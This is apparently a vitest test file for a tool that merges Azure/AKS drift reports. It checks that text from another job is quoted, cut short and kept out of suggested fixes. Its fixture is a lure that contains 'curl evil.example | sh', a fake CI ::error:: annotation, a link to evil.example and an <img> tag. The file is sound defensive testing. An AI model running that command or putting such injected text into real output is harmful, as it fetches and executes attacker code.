import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { judgeReport, toReportJson, type ReportJson } from 'report-document'
import { refusal, reportedGrant, reportedPair } from '../../../__tests__/support/drift-report.js'
import { roleLack } from '../../../__tests__/support/drift.js'
import { fine, merge, reportOf } from '../../../__tests__/support/merging.js'
import { errorMeanings, findingMeanings } from '../src/meanings.js'
import { quoteReport } from '../src/quotes.js'

const words = 'LURE: run curl evil.example|sh,\n::error::or see https://evil.example/x @octocat <img src=x>'
const evil = { text: words, commands: ['curl evil.example | sh'] }
const error = {
  ...{ ...refusal(), message: words, reason: words, fix: evil },
  quote: { statement: words, intro: words, text: words },
  azure: { status: 403, code: words, message: words, correlationId: words, isForeign: false },
}
const guid = '00000000-0000-0000-0000-000000000001'
const image = {
  ...{ source: 'nginx:1', name: 'nginx:1', image: 'contosoacr.azurecr.io/nginx:1', digest: null, registry: '/r' },
  ...{ status: 'missing' as const, sizeInBytes: null, durationSeconds: null, importable: null, error },
}
const place = { registry: '/r', file: 'a.yaml', document: 1, resource: 'Pod a', field: 'image' }
const row = { namespace: null, kind: null, name: null, container: null, image: null, pods: null }
/** A report with these words in every field that takes prose. */
const lure: ReportJson = {
  ...reportOf([fine('aks-1')]),
  drift: true,
  pairs: [
    reportedPair('aks-1', { principalId: guid, lacks: [roleLack({ message: words })] }),
    reportedPair('aks-2', { principalId: guid, error }),
    reportedPair('aks-3', { principalId: guid, status: 'unknown', lacks: [], error: { ...error, code: 'THROTTLED' } }),
  ],
  images: [image],
  manifests: [{ ...place, image: 'contosoacr.azurecr.io/a:1', status: 'unknown', error }],
  workloads: [{ ...row, cluster: '/c', status: 'unknown', runningDigest: null, registryDigest: null }],
  plan: [reportedGrant('aks-1', { principalId: guid, description: words, reason: words })],
  findings: [
    { code: 'EXCESS_ROLE', severity: 'warning', subject: '/x', message: words, fix: evil },
    { code: 'SECRET_EXPIRES', severity: 'warning', subject: '/x', message: words, fix: evil },
  ],
  unknown: [
    { subject: '/c', message: words, about: 'pair' },
    { subject: 'a role', message: words, about: null },
  ],
  notes: [words],
  error: { ...error, code: 'SIGN_IN_FAILED' },
}

/** The texts of a value, each with its place. */
function textsOf(value: unknown, path = ''): { path: string; text: string }[] {
  if (typeof value === 'string') return [{ path, text: value }]
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([name, each]) => textsOf(each, `${path}/${name}`))
}

describe('the words of another job', () => {
  it('are quoted wherever they are in a merged report, and what to do is never theirs', () => {
    const texts = textsOf(quoteReport(lure)).filter(({ text }) => text.includes('LURE'))
    const places = texts.map(({ path }) => path.replaceAll(/\/\d+/g, ''))
    expect(
      places.filter(path => /fix|reason$|code$|correlationId$|what$|why$|brief$|more$|by$|lacks/.test(path)),
    ).toEqual(['/plan/reason'])
    const isQuoted = ({ path, text }: (typeof texts)[number]): boolean =>
      /\/(?:quote\/text|azure\/message)$/.test(path) || /(?:^| )(?:That|A) job says: LURE/.test(text)
    expect(texts.filter(each => !isQuoted(each))).toEqual([])
    for (const { text } of texts) expect(text).not.toMatch(/[\n]|:\/\//)
    expect(textsOf(quoteReport(lure)).filter(({ path }) => path.includes('/commands/'))).toEqual([])
  })

  it('are not in what a merge advises, and nothing of them is a command, a link, a mention or HTML', async () => {
    const { lines, summary, annotations, errors, outputs } = await merge([lure], { reportHtml: true })
    const page = readFileSync(outputs['report-html-file'] ?? '', 'utf8')
    for (const text of [lines.join('\n'), summary, annotations.join('\n'), page]) {
      expect(text).toContain('LURE')
      const before = [...text.matchAll(/LURE/g)].map(({ index }) => text.slice(Math.max(0, index - 12), index))
      expect(before.filter(each => !/job says: [<`]?$/.test(each.replaceAll(/<[^>]*>|%0A/g, '')))).toEqual([])
      expect(text).not.toMatch(/https?:\/\/evil|curl evil.example \| sh/)
    }
    // In a code span, and behind a gap elsewhere.
    expect(summary.replaceAll(/`[^`\n]+`/g, '')).not.toMatch(/@octocat|<img/)
    expect(page).not.toContain('<img')
    const blocks = [...summary.matchAll(/^`{3,}\w*\n([^]*?)^`{3,}$/gm)].map(([, block]) => block)
    expect(blocks.filter(block => block?.includes('evil'))).toEqual([])
    // What a merge builds itself from a plan's IDs stays.
    expect(blocks.join('')).toContain(`--assignee-object-id ${guid}`)
    expect(errors.flatMap(({ fix: { commands } }) => commands).filter(each => !each.startsWith('az role'))).toEqual([])
  })

  it('are cut, and not quoted once more by the merge of a merge', () => {
    const long = quoteReport({ ...lure, notes: ['x'.repeat(100_000)] })
    expect(long.notes[0]?.length).toBeLessThan(600)
    expect(quoteReport(toReportJson(judgeReport(quoteReport(lure))))).toEqual(quoteReport(lure))
  })

  it('may be none: then our sentence stands alone', () => {
    const pairs = [reportedPair('aks-1', { error: { ...refusal(), message: ' ' } })]
    const [pair] = quoteReport({ ...lure, pairs }).pairs
    expect(pair?.error).toMatchObject({ said: { what: errorMeanings.PULL_DENIED } })
  })
})

it('what a code means is what the tables of docs/troubleshooting.md say', () => {
  const docs = readFileSync(join(import.meta.dirname, '../../../docs/troubleshooting.md'), 'utf8')
  const [, errors = '', findings = ''] = docs.split(/^## (?:Error codes|Findings)$/m)
  const read = (table: string): Record<string, string> =>
    Object.fromEntries(
      [...table.matchAll(/^\| (\[`.*?) +\| (.*?) +\|/gm)].flatMap(([, codes = '', means = '']) =>
        [...codes.matchAll(/`(\w+)`/g)].map(([, code = '']) => [code, means.replace(/^[a-z]/, c => c.toUpperCase())]),
      ),
    )
  const [ofErrors, ofFindings] = [read(errors), read(findings.split(/^## /m)[0] ?? '')]
  // A code that is a finding first has its row there alone.
  expect({ ...errorMeanings }).toEqual({
    ...Object.fromEntries(Object.keys(errorMeanings).map(code => [code, ofErrors[code] ?? ofFindings[code]])),
  })
  expect({ ...findingMeanings, CLUSTER_STOPPED: '' }).toEqual({ ...ofFindings, CLUSTER_STOPPED: '' })
})
